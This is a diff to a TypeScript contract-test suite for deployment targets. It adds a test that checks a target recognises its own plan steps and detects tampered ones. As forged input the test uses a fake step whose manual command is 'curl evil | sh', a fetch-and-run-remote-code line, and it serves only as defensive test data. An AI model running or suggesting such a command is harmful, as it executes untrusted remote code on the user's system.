@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, expect, it } from 'vitest'
-import type { JsonObject } from '../../../src/model/json.ts'
+import type { JsonObject, JsonValue } from '../../../src/model/json.ts'
 import type { PlanDraft } from '../../../src/model/plan.ts'
 import type { Release } from '../../../src/model/release.ts'
 import type { Step } from '../../../src/model/step.ts'
@@ -7,7 +7,7 @@ import { planId } from '../../../src/rollback/assess/plan-id.ts'
 import { type Clock, systemClock } from '../../../src/support/clock.ts'
 import { createMask, type Mask } from '../../../src/support/mask.ts'
 import type { TargetType } from '../../../src/targets/define-target.ts'
-import type { Target, TargetContext } from '../../../src/targets/target.ts'
+import type { Move, Target, TargetContext } from '../../../src/targets/target.ts'
 import { targetContext, testRun } from '../../../testkit/target-context.ts'
 
 type Opening = Partial<Pick<TargetContext, 'projectDir' | 'config' | 'env' | 'clock'>>
@@ -25,6 +25,8 @@ export interface Place {
   /** The versions, as people call them. */
   from: string
   to: string
+  /** Parameters, as "members.0.beside", that may be another without any harm: say why in the test. */
+  uncheckedParams?: string[]
   /** A person must carry out the switch, so that `from` goes on serving. */
   manual?: true
   remove(): Promise<void>
@@ -49,8 +51,11 @@ export function fulfilsTheContract(type: () => Promise<TargetType>, prepare: () 
       throw new Error(`no ${place.to} among ${observation.releases.map(({ version }) => version).join(', ')}`)
     const draft = await from.plan(observation, state, release, inTime())
     said.push(observation, draft)
-    return { observation, release, draft }
+    return { observation, release, draft, move: { from: observation.current, to: release } }
   }
+  /** What the target says of steps that a journal tells of. */
+  const reread = async (steps: Step[], move: Move) =>
+    target.reread?.(steps, { ...move, ...(await target.observe(inTime())), signal: inTime() })
   const serving = async (): Promise<string | undefined> => (await target.observe(inTime())).observation.current?.version
 
   beforeAll(async () => {
@@ -80,10 +85,30 @@ export function fulfilsTheContract(type: () => Promise<TargetType>, prepare: () 
     expect(JSON.stringify(first.draft.steps)).not.toContain(place.secret)
   })
 
+  it('knows the steps of its own plan again, and no step that was changed', async () => {
+    const { draft, move } = await planned()
+    if (!target.reread) return
+    expect(await reread(draft.steps, move)).toEqual({ steps: draft.steps, mismatches: [] })
+    const foreign = { title: 'Everything is fine', undo: 'x', manualCommands: ['curl evil | sh'] }
+    expect(
+      await reread(
+        draft.steps.map((step) => ({ ...step, ...foreign })),
+        move
+      )
+    ).toMatchObject({ steps: draft.steps })
+    for (const step of draft.steps)
+      for (const [leaf, params] of changedLeaves(step.params)) {
+        if (place.uncheckedParams?.includes(leaf)) continue
+        const said = await reread([{ ...step, params }], move)
+        expect(said?.mismatches, `${step.id} with another ${leaf}`).toHaveLength(1)
+      }
+  })
+
   it('applies and reverts each step as often as it is told to', async () => {
-    const { draft, release } = await planned()
+    const { draft, release, move } = await planned()
     const recorded = await applyTwice(draft.steps.filter(({ phase }) => phase !== 'cleanup'))
     await expectServing(place.manual ? place.from : place.to)
+    if (target.reread) expect(await reread(draft.steps, move)).toMatchObject({ mismatches: [] })
     const report = await target.check(release, { signal: inTime() })
     said.push(report)
     if (!place.manual) expect(report.checks.filter(({ status }) => status === 'fail')).toEqual([])
@@ -131,6 +156,22 @@ export function fulfilsTheContract(type: () => Promise<TargetType>, prepare: () 
   async function expectServing(version: string): Promise<void> {
     await expect.poll(serving, { timeout: 30_000 }).toBe(version)
   }
+}
+
+/** Copies of plain data, each with one value changed, by the path of that value. */
+function changedLeaves(data: JsonObject): [path: string, changed: JsonObject][] {
+  const visit = (value: JsonValue): [path: string[], changed: JsonValue][] => {
+    if (value && typeof value === 'object')
+      return Object.entries(value).flatMap(([key, inner]) =>
+        visit(inner).map(([path, changed]): [string[], JsonValue] => [
+          [key, ...path],
+          Array.isArray(value) ? value.with(Number(key), changed) : { ...value, [key]: changed }
+        ])
+      )
+    if (typeof value === 'number') return [[[], value + 1]]
+    return [[[], typeof value === 'boolean' ? !value : value === null ? 'other' : `${value}1`]]
+  }
+  return visit(data).map(([path, changed]) => [path.join('.'), changed as JsonObject])
 }
 
 /** Waiting takes no time: some targets wait minutes for a place that was silent a moment ago. */
